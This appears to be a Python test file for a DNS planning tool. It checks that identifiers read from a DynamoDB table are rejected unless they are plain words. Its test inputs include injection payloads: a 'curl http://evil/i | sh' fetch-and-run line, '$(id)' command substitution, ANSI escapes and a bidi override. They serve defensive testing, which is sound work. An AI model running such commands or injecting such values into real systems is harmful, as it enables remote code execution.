"""What the table holds as ids is copied from logs into shells: only plain words come out of it."""

import pytest

from dnsplan.errors import ItemUnreadable
from dnsplan.runtime.dynamodb import Item
from dnsplan.runtime.table import item_from

ITEM: Item = {
    "pk": {"S": "gen#shop"},
    "sk": {"S": "item"},
    **{name: {"S": name} for name in ("owner", "incarnation", "nonce", "head_digest")},
    **{name: {"N": "3"} for name in ("head", "claimed", "applied", "last_known_good", "floor")},
}
WORDS = (
    "owner",
    "incarnation",
    "nonce",
    "zone_id",
    "head_digest",
    "frozen",
    "pin_digest",
)


@pytest.mark.parametrize("field", WORDS)
@pytest.mark.parametrize(
    "text",
    [
        "x\x1b[31m",
        "x\nshop zone in_sync",
        "x\u202e",
        "x; curl http://evil/i | sh",
        "$(id)",
        "--yes",
        "x" * 81,
    ],
)
def test_a_field_that_no_tool_writes_is_an_unreadable_item(field: str, text: str) -> None:
    """The error names the field, and shows of its text what no terminal obeys."""
    with pytest.raises(ItemUnreadable, match=f"gen#shop/item has a {field}") as caught:
        item_from({**ITEM, field: {"S": text}})
    assert str(caught.value).isprintable()
    assert len(str(caught.value)) < 200


@pytest.mark.parametrize("field", WORDS)
def test_a_plain_word_is_read(field: str) -> None:
    """Ids as our tools write them, and the digest that a zone without plans has."""
    assert getattr(item_from({**ITEM, field: {"S": "9f86d081.use1-az2_B"}}), field)
    assert item_from({**ITEM, "head_digest": {"S": ""}}).head_digest == ""
